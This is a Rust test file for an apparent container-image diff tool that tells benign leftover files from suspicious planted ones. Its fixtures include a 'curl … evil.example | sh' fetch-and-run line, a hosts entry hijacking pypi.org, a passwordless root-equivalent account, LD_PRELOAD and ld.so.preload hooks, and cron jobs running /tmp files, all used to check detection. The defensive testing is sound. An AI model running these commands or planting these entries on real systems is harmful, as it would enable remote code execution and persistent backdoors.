//! Noise by path: what tools leave stays calm, and what somebody reads or runs is shown, whatever its place.

use super::*;

const SH: &[u8] = b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n";

/// What is said of a file that only the right image has.
fn planted(path: &str, bytes: &[u8]) -> Explanation {
    explanation(
        &changed(|image| {
            image.write(path, bytes);
        }),
        path,
    )
}

/// The same, beside other files that both have.
fn planted_beside(beside: &[(&str, &[u8])], path: &str, bytes: &[u8]) -> Explanation {
    let mut left = image();
    for (path, bytes) in beside {
        left.write(path, bytes);
    }
    let mut right = left.clone();
    right.write(path, bytes);
    explanation(&report(&left, &right), path)
}

#[test]
fn what_daemons_and_tools_read_in_run_is_shown() {
    for path in [
        "run/systemd/system/evil.service",
        "run/systemd/network/x.network",
        "run/user/0/systemd/units/x",
        "run/udev/rules.d/99.rules",
        "run/udev/hwdb.bin",
        "run/tmpfiles.d/x.conf",
        "run/sysctl.d/x.conf",
        "run/modprobe.d/x.conf",
        "run/modules-load.d/x.conf",
        "run/sysusers.d/x.conf",
        "run/binfmt.d/x.conf",
        "run/dbus-1/system-local.conf",
        "run/NetworkManager/conf.d/x.conf",
        "run/resolvconf/interface/x",
        "run/sudo/ts/app",
        "run/nologin",
        "run/utmp",
        "run/motd.dynamic",
        "run/lock/x",
        "run/x.pid",
        "run/.containerenv",
    ] {
        assert_eq!(planted(path, b"x"), Explanation::Unexplained, "{path}");
    }
    for (path, bytes) in [("run/x.pid", &b"17\n"[..]), ("run/lock/apache2", b""), ("run/.containerenv", b"")] {
        assert_eq!(planted(path, bytes), Explanation::Noise, "{path}");
    }
    let empty = changed(|image| {
        image.directory("run/lock");
    });
    assert_eq!(explanation(&empty, "run/lock"), Explanation::Noise);
    let link = changed(|image| {
        image.write("tmp/x.txt", b"x").symlink("run/systemd/x.service", "/tmp/x.txt");
    });
    assert_eq!(explanation(&link, "run/systemd/x.service"), Explanation::Unexplained);
}

#[test]
fn programs_and_code_are_no_leftovers() {
    for (path, bytes) in [
        ("tmp/x.so", &b"\x7fELFx"[..]),
        ("tmp/notes", b"\x7fELFx"),
        ("var/tmp/x", SH),
        ("var/log/wtmp", SH),
        ("root/.cache/pip/http-v2/a/b", SH),
        ("root/.cache/uv/wheels-v1/x.py", b"import os"),
        ("root/.cache/uv/archive-v0/Zx/libz.so.1", b"x"),
        ("root/.cache/pip/wheels/aa/bb/cc/wrapt-1.0-py3-none-any.whl", b"PK\x03\x04x"),
        ("root/.cache/pypoetry/cache/artifacts/aa/x.whl", b"PK\x03\x04x"),
        ("root/.cache/pypoetry/cache/repositories/x", SH),
        ("root/.npm/_cacache/tmp/x", b"x"),
    ] {
        assert_eq!(planted(path, bytes), Explanation::Unexplained, "{path}");
    }
    for path in ["tmp/pip-log.txt", "var/tmp/download", "root/.cache/pip/http-v2/a/b/c/d/e/abcde.body"] {
        assert_eq!(planted(path, b"x"), Explanation::Noise, "{path}");
    }
    // The cache from which an installed distribution was linked.
    let cache = "root/.cache/uv/archive-v0/LQb0R3/flask/app.py";
    assert_eq!((planted(cache, b"app"), planted(cache, b"evil")), (Explanation::Noise, Explanation::Unexplained));
}

#[test]
fn apts_archives_hold_the_debs_of_installed_packages() {
    let deb = b"!<arch>\ndebian-binary   1700000000  0     0     100644  4         `\n2.0\n";
    for (name, bytes) in [
        ("libfoo_1.0-1_amd64.deb", &b"!<arch>\nx"[..]),
        ("libfoo_6.6.6_amd64.deb", deb),
        ("evil_1_amd64.deb", deb),
        ("Packages", b"Package: x\n"),
    ] {
        assert_eq!(planted(&format!("var/cache/apt/archives/{name}"), bytes), Explanation::Unexplained, "{name}");
    }
    assert_eq!(planted("var/cache/apt/archives/libfoo_1.0-1_amd64.deb", deb), Explanation::Noise);
    assert_eq!(planted("var/lib/apt/periodic/update-success-stamp", SH), Explanation::Unexplained);
    assert_eq!(planted("var/lib/apt/periodic/update-success-stamp", b""), Explanation::Noise);
}

#[test]
fn an_index_over_a_log_needs_its_database() {
    let mut index = 3_007_000_u32.to_le_bytes().to_vec();
    index.resize(32 << 10, 0);
    let database: (&str, &[u8]) = ("app/data.db", b"SQLite format 3\0");
    assert_eq!(planted_beside(&[database], "app/data.db-shm", &index), Explanation::Noise);
    assert_eq!(planted("app/data.db-shm", &index), Explanation::Unexplained);
    assert_eq!(planted_beside(&[database], "app/data.db-shm", b"server {}"), Explanation::Unexplained);
    assert_eq!(planted("etc/nginx/sites-enabled/x.db-shm", b"server {}"), Explanation::Unexplained);
}

#[test]
fn an_installers_notes_are_words_beside_the_metadata_of_a_distribution() {
    let note = |name: &str| TestImage::site(&format!("flask-3.0.0.dist-info/{name}"));
    for (path, bytes) in [
        (note("INSTALLER"), SH),
        (note("REQUESTED"), b"x"),
        ("etc/nginx/sites-enabled/x.dist-info/INSTALLER".to_owned(), b"server{}"),
        ("etc/x.dist-info/INSTALLER".to_owned(), b"pip\n"),
    ] {
        assert_eq!(planted(&path, bytes), Explanation::Unexplained, "{path}");
    }
}

#[test]
fn what_an_engine_mounts_over_says_nothing_of_others() {
    for (path, bytes) in [
        ("etc/hosts", &b"6.6.6.6 pypi.org\n"[..]),
        ("etc/hosts", b"127.0.0.1 pypi.org\n"),
        ("etc/resolv.conf", b"nameserver 6.6.6.6\n"),
        (".dockerenv", b"x"),
    ] {
        assert_eq!(planted(path, bytes), Explanation::Unexplained, "{path}");
    }
    let local = b"127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost ip6-loopback\nff02::1\tip6-allnodes\n";
    for (path, bytes) in [("etc/hosts", &local[..]), ("etc/hostname", b"buildkitsandbox\n"), ("etc/resolv.conf", b"")] {
        assert_eq!(planted(path, bytes), Explanation::Noise, "{path}");
    }
}

#[test]
fn backups_are_of_what_is_there() {
    let accounts: [(&str, &[u8]); 2] = [
        ("etc/passwd", b"root:x:0:0::/root:/bin/sh\napp:x:1000:1000::/:/bin/sh\n"),
        ("etc/subuid", b"app:100000:65536\n"),
    ];
    let of = |path: &str, bytes: &[u8]| planted_beside(&accounts, path, bytes);
    assert_eq!(of("etc/passwd-", b"root:*:0:0::/root:/bin/bash\n"), Explanation::Noise);
    assert_eq!(of("etc/passwd-", b"root:*:0:0::/root:/bin/sh\ntoor::0:0::/:/bin/sh\n"), Explanation::Unexplained);
    assert_eq!(of("etc/subuid-", b""), Explanation::Noise);
    assert_eq!(of("etc/subuid-", b"root:0:1\n"), Explanation::Unexplained);
    assert_eq!(planted("var/backups/dpkg.status.0", b"x"), Explanation::Noise);
    assert_eq!(planted("var/backups/cron.d/x", b"x"), Explanation::Unexplained);
}

#[test]
fn a_tools_own_files_look_like_it() {
    let vim = b"# This viminfo file was generated by Vim 9.0.\n";
    assert_eq!(
        (planted("root/.viminfo", vim), planted("home/a/.viminfo", b"x")),
        (Explanation::Noise, Explanation::Unexplained)
    );
    let gem = "var/lib/gems/3.1.0/extensions/x86_64-linux/3.1.0/json-2.6";
    let log = format!("{gem}/mkmf.log");
    assert_eq!(planted(&log, b"checking"), Explanation::Unexplained);
    assert_eq!(planted_beside(&[(&format!("{gem}/gem.build_complete"), b"")], &log, b"checking"), Explanation::Noise);
    let cached = format!("root/.npm/_cacache/content-v2/sha512/aa/bb/{}", "c".repeat(124));
    assert_eq!(planted(&cached, b"x"), Explanation::Noise);
    assert_eq!(planted("root/.npm/_cacache/content-v2/sha512/aa/bb/cc", b"x"), Explanation::Unexplained);
}

#[test]
fn a_git_object_is_named_by_its_hash() {
    use std::io::Write as _;

    let mut deflated = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    deflated.write_all(b"blob 6\0hello\n").unwrap();
    let deflated = deflated.finish().unwrap();
    // `echo hello | git hash-object --stdin`
    let object = "app/.git/objects/ce/013625030ba8dba906f756967f9e9ca394464a";
    assert_eq!(
        (planted(object, &deflated), planted(object, b"x\x9cevil")),
        (Explanation::Noise, Explanation::Unexplained)
    );
    assert_eq!(
        planted("app/.git/objects/ce/013625030ba8dba906f756967f9e9ca394464b", &deflated),
        Explanation::Unexplained
    );
}

/// What is said of a file that both sides have and reach alike.
fn reached(file: &str, reach: impl Fn(&mut TestImage)) -> Explanation {
    let with = |bytes: &[u8]| {
        let mut image = image();
        image.write(file, bytes);
        reach(&mut image);
        image
    };
    let report = report(&with(b"one"), &with(b"other"));
    let explanation = explanation(&report, file);
    let is_same = report.left.content_digest == report.right.content_digest;
    assert_eq!(is_same, explanation == Explanation::Noise, "{file}: the digest says another thing");
    explanation
}

#[test]
fn what_commands_name_is_used() {
    let words = |words: &[&str]| words.iter().map(|word| (*word).to_owned()).collect::<Vec<_>>();
    let command =
        |arguments: &[&str]| reached("tmp/x/app.cfg", |image| image.config.runtime.entrypoint = words(arguments));
    for arguments in [
        &["app", "--config=/tmp/x/app.cfg"][..],
        &["app", "/tmp/x/app.cfg"],
        &["app", "@/tmp/x/app.cfg"],
        &["app", "/tmp/x"],
        &["sh", "-c", "cd /tmp/x && app -f app.cfg"],
        &["sh", "-c", "exec app <\"/tmp/x/../x/app.cfg\""],
    ] {
        assert_eq!(command(arguments), Explanation::Unexplained, "{arguments:?}");
    }
    for arguments in [&["app", "/tmp"][..], &["app", "/"], &["app", "/tmp/y"], &[]] {
        assert_eq!(command(arguments), Explanation::Noise, "{arguments:?}");
    }
    let of = |change: &dyn Fn(&mut TestImage)| reached("tmp/x/app.cfg", change);
    let used = Explanation::Unexplained;
    assert_eq!(of(&|image| image.config.runtime.cmd = words(&["-c", "/tmp/x/app.cfg"])), used);
    assert_eq!(
        of(&|image| image.config.runtime.healthcheck = Some("{\"Test\":[\"CMD\",\"/tmp/x/app.cfg\"]}".to_owned())),
        used
    );
    assert_eq!(of(&|image| image.config.runtime.on_build = words(&["RUN . /tmp/x/app.cfg"])), used);
    let variable = |name: &str, value: &str| {
        let (name, value) = (name.to_owned(), value.to_owned());
        of(&|image| image.config.runtime.env.push((name.clone(), value.clone())))
    };
    assert_eq!(variable("BASH_ENV", "/tmp/x/app.cfg"), used);
    assert_eq!(variable("LD_PRELOAD", "/lib/a.so:/tmp/x/app.cfg"), used);
    assert_eq!(variable("PATH", "/usr/bin:/tmp/x"), used);
    assert_eq!(variable("TMPDIR", "/tmp"), Explanation::Noise);
    assert_eq!(
        of(&|image| {
            image.config.runtime.working_dir = "/tmp/x".to_owned();
            image.config.runtime.cmd = words(&["app", "app.cfg"]);
        }),
        used
    );
}

#[test]
fn what_programs_read_at_start_names_files_too() {
    let by = |path: &str, text: &str| {
        reached("tmp/job", |image| {
            image.write(path, text.as_bytes());
        })
    };
    for (path, text) in [
        ("etc/cron.d/app", "* * * * * root sh /tmp/job\n"),
        ("etc/crontab", "* * * * * root . /tmp/job\n"),
        ("var/spool/cron/crontabs/root", "* * * * * sh /tmp/job\n"),
        ("etc/systemd/system/app.service", "[Service]\nEnvironmentFile=-/tmp/job\n"),
        ("usr/lib/systemd/system/app.service", "[Service]\nExecStart=/bin/sh /tmp/job\n"),
        ("etc/profile.d/x.sh", ". /tmp/job\n"),
        ("etc/ld.so.preload", "/tmp/job\n"),
        ("etc/apt/sources.list.d/x.list", "deb [signed-by=/tmp/job] https://deb.example/ x main\n"),
    ] {
        assert_eq!(by(path, text), Explanation::Unexplained, "{path}");
    }
    assert_eq!(by("etc/motd", "see /tmp/job\n"), Explanation::Noise);
    let repository = |text: &str| {
        reached("var/tmp/repo/Packages", |image| {
            image.write("etc/apt/sources.list", text.as_bytes());
        })
    };
    assert_eq!(repository("deb [trusted=yes] file:/var/tmp/repo ./\n"), Explanation::Unexplained);
    assert_eq!(repository("deb [trusted=yes] file:/ ./\n"), Explanation::Noise);
}

#[test]
fn what_scripts_name_is_followed_for_some_steps() {
    let chain = |steps: usize| {
        reached("tmp/data", |image| {
            image.config.runtime.entrypoint = vec!["/app/run0".to_owned()];
            for step in 0..steps {
                image.write(&format!("app/run{step}"), format!("#!/bin/sh\nexec /app/run{}\n", step + 1).as_bytes());
            }
            image.write(&format!("app/run{steps}"), b"#!/bin/sh\nexec app --data /tmp/data\n");
        })
    };
    assert_eq!(
        (chain(0), chain(3), chain(12)),
        (Explanation::Unexplained, Explanation::Unexplained, Explanation::Noise)
    );
    let program = reached("tmp/data", |image| {
        image.config.runtime.cmd = vec!["start".to_owned()];
        image.write("usr/local/bin/start", b"#!/bin/sh\nexec app /tmp/data\n");
    });
    assert_eq!(program, Explanation::Unexplained);
}

#[test]
fn homes_hold_start_up_files() {
    let home = |file: &str| {
        reached(file, |image| {
            image.write("etc/passwd", b"root:x:0:0::/root:/bin/sh\napp:x:1:1::/tmp/home:/bin/sh\n");
        })
    };
    for used in
        ["tmp/home/.bashrc", "tmp/home/.ssh/authorized_keys", "tmp/home/.config/pip/pip.conf", "tmp/home/.profile"]
    {
        assert_eq!(home(used), Explanation::Unexplained, "{used}");
    }
    assert_eq!(home("tmp/home/data"), Explanation::Noise);
}
